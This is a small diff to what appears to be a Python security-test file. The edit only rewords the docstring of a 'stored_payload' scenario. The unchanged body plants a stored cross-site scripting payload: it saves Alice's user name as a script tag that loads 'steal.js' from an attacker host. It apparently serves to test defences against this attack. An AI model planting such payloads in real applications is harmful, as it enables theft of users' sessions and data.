@@ -63,7 +63,7 @@ def click_in_frame(scene: Scene) -> Try:
 
 
 def stored_payload(scene: Scene) -> Try:
-    """A script that is stored as Alice's name runs when she opens her profile."""
+    """Alice's name is a script. It runs when Alice opens the profile page."""
     alice, where = scene.person(), scene.url("/broken/steal.js", hosts.ATTACKER)
     alice.user.name = f"<script src={where}></script>"
     alice.user.save()
